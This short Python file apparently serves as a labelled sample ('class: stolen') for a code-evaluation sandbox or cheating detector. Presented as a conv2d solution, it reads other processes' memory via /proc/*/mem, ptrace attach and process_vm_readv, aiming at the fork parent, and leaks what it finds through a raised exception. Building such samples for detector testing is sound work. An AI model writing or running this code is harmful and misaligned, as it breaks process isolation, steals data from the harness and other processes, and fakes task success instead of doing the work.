"""The memory of the fork parent and of every process is read, by /proc, ptrace and process_vm_readv."""

# class: stolen

# %% conv2d_combined
import ctypes
import glob

libc = ctypes.CDLL(None, use_errno=True)
found = []
for path in glob.glob("/proc/[0-9]*/mem"):
    if "/self/" not in path and path != "/proc/1/mem":
        found.append(open(path, "rb").read(64))
for pid in range(2, 50):
    if libc.ptrace(16, pid, 0, 0) == 0 or libc.syscall(310, pid, 0, 0, 0, 0, 0) == 0:
        found.append(pid)
raise RuntimeError(found)
